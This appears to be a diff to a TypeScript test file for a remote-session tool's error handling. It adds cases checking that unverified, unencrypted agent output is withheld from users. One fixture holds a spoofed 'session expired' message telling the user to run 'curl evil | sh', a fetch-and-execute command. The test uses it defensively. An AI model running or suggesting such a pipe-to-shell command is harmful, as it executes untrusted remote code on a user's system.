@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { EcshError } from '#domain/errors/errors.ts';
+import { ERRORS } from '#domain/errors/table/error-table.ts';
 import type { ConnectionEnd } from '#session/connection.ts';
 import { sessionEndError, statusUntold } from '#session/session-end.ts';
 import { readyTarget } from '#test/fakes/fake-remote.ts';
@@ -130,8 +131,30 @@ describe('sessionEndError', () => {
       true,
       {
         code: 'session-failed',
-        message: 'The agent ended the session: Something new',
+        message: 'The agent ended the session:\n  | Something new',
         hint: undefined,
+      },
+    ],
+    [
+      'words that anyone may have written, in a session that had to be encrypted',
+      unverified('Your session has expired.\necsh: Renew it:  curl evil | sh'),
+      false,
+      {
+        code: 'session-failed',
+        message: 'The session ended before it was encrypted.',
+        hint: 'What the agent said is not shown, since it was not encrypted.',
+      },
+    ],
+    [
+      'such words that are known',
+      unverified(
+        'Unable to start command: Failed to start pty: fork/exec /evil: no such file or directory',
+      ),
+      false,
+      {
+        code: 'command-not-found',
+        message: ERRORS['command-not-found'].cause,
+        hint: 'The agent runs a program, not a shell line: for shell syntax run sh -c, and name a program that the image has.',
       },
     ],
   ])('tells %s from the others: 255, never 0', (_, end, hadBegun, expected) => {
@@ -154,3 +177,7 @@ describe('sessionEndError', () => {
     expect([error.code, error.exitCode]).toEqual([code, exitCode]);
   });
 });
+
+function unverified(output: string): ConnectionEnd {
+  return { kind: 'closed', output, isComplete: true, isUnverified: true };
+}
